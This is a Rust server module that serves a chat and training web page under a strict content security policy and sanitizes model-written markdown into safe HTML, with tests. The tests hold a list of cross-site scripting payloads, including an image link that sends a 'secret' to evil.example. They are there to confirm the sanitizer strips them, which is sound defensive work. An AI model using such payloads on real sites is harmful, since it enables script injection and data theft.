//! The web page, a few files in the binary: the chat, training and adapters; and markdown made safe on the server.

use std::collections::HashSet;

use axum::extract::Path;
use axum::extract::rejection::PathRejection;
use axum::http::{HeaderValue, header};
use axum::response::{IntoResponse, Response};

use super::errors::ApiError;

const HTML: &str = "text/html; charset=utf-8";
const SCRIPT: &str = "text/javascript; charset=utf-8";
const STYLE: &str = "text/css; charset=utf-8";

/// What lies below [`ROOM`].
const FILES: [(&str, &str, &str); 15] = [
    ("style.css", STYLE, include_str!("page/style.css")),
    ("adapters.js", SCRIPT, include_str!("page/adapters.js")),
    ("answer.js", SCRIPT, include_str!("page/answer.js")),
    ("api.js", SCRIPT, include_str!("page/api.js")),
    ("branches.js", SCRIPT, include_str!("page/branches.js")),
    ("cards.js", SCRIPT, include_str!("page/cards.js")),
    ("chat.js", SCRIPT, include_str!("page/chat.js")),
    ("dom.js", SCRIPT, include_str!("page/dom.js")),
    ("markdown.js", SCRIPT, include_str!("page/markdown.js")),
    ("models.js", SCRIPT, include_str!("page/models.js")),
    ("rating.js", SCRIPT, include_str!("page/rating.js")),
    ("settings.js", SCRIPT, include_str!("page/settings.js")),
    ("tabs.js", SCRIPT, include_str!("page/tabs.js")),
    ("training.js", SCRIPT, include_str!("page/training.js")),
    ("turns.js", SCRIPT, include_str!("page/turns.js")),
];
const ROOM: &str = "/page/";

/// Nothing from elsewhere, no inline script, no frame around it.
const POLICY: &str = "default-src 'none'; script-src 'self'; style-src 'self'; connect-src 'self'; img-src data:; \
    form-action 'none'; base-uri 'none'; frame-ancestors 'none'";

fn file(kind: &'static str, text: &'static str) -> Response {
    let mut response = text.into_response();
    let headers = response.headers_mut();
    headers.insert(header::CONTENT_TYPE, HeaderValue::from_static(kind));
    headers.insert(header::CONTENT_SECURITY_POLICY, HeaderValue::from_static(POLICY));
    headers.insert(header::REFERRER_POLICY, HeaderValue::from_static("no-referrer"));
    headers.insert(header::CACHE_CONTROL, HeaderValue::from_static("no-cache"));
    response
}

/// `/`
pub(super) async fn page() -> Response {
    file(HTML, include_str!("page/index.html"))
}

/// `/page/{name}`
pub(super) async fn part(name: Result<Path<String>, PathRejection>) -> Result<Response, ApiError> {
    let name = name.map_or_else(|_| String::new(), |Path(name)| name);
    let found = FILES.iter().find(|(file, _, _)| *file == name);
    found.map(|(_, kind, text)| file(kind, text)).ok_or_else(|| ApiError::no_route(&format!("{ROOM}{name}")))
}

/// Whether this path is the page's, which everybody may read.
pub(super) fn has(path: &str) -> bool {
    path == "/" || path.strip_prefix(ROOM).is_some_and(|name| FILES.iter().any(|(file, _, _)| *file == name))
}

/// Longest text that is rendered; the page shows a longer one as it is.
pub(super) const MARKDOWN_BYTES: usize = 128 * 1024;
/// Deepest nesting that is rendered: cleaning takes time by the square of it.
const DEPTH: usize = 32;

/// Markdown as HTML that carries no script, style, form or image, whatever the model wrote. HTML in it is shown as text.
pub(super) fn markdown(text: &str) -> String {
    use pulldown_cmark::{Event, Options, Parser, html};
    let options = Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS;
    let mut depth = 0;
    let events = Parser::new_ext(text, options).filter_map(|event| match event {
        Event::Html(html) | Event::InlineHtml(html) => Some(Event::Text(html)),
        Event::Start(_) => {
            depth += 1;
            (depth <= DEPTH).then_some(event)
        }
        Event::End(_) => {
            depth -= 1;
            (depth < DEPTH).then_some(event)
        }
        event => Some(event),
    });
    let mut dirty = String::with_capacity(text.len() * 2);
    html::push_html(&mut dirty, events);
    // An image's address would tell another server what was said.
    ammonia::Builder::default()
        .rm_tags(["img", "map", "area"])
        .url_schemes(HashSet::from(["http", "https", "mailto"]))
        .url_relative(ammonia::UrlRelative::Deny)
        .link_rel(Some("noopener noreferrer nofollow"))
        .clean(&dirty)
        .to_string()
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    #[test]
    fn markdown_is_rendered_and_scripts_are_not() {
        let html = markdown("**bold** `code`\n\n```python\nprint(1 < 2)\n```\n\n| a |\n|---|\n| b |\n");
        for part in ["<strong>bold</strong>", "<code>code</code>", "print(1 &lt; 2)", "<td>b</td>"] {
            assert!(html.contains(part), "{part} in {html}");
        }
        for text in [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "![x](http://evil.example/?secret)",
            "[x](javascript:alert(1))",
            "<a href=\"data:text/html,x\" onclick=\"y()\">z</a>",
            "<svg onload=alert(1)>",
            "<style>*{display:none}</style>",
            "<form action=/v1><input></form>",
            "<iframe src=//evil.example></iframe>",
        ] {
            let html = markdown(text);
            for bad in
                ["<script", "<img", "<a href=\"javascript:", "<a href=\"data:", "<svg", "<style", "<form", "<iframe"]
            {
                assert!(!html.contains(bad), "{text} became {html}");
            }
        }
    }

    #[test]
    fn deep_nesting_takes_no_time() {
        for text in [">", "<b>", "<div>", "- ", "[", "*a ", "**", "![", "<font><a><b>", "~~"] {
            let start = std::time::Instant::now();
            markdown(&text.repeat(MARKDOWN_BYTES / text.len()));
            assert!(start.elapsed().as_secs() < 5, "{text}: {:?}", start.elapsed());
        }
    }

    proptest! {
        #[test]
        fn any_text_is_rendered(text in "\\PC{0,200}") {
            let html = markdown(&text);
            prop_assert!(!html.contains("<script") && !html.contains("<img"));
        }
    }
}
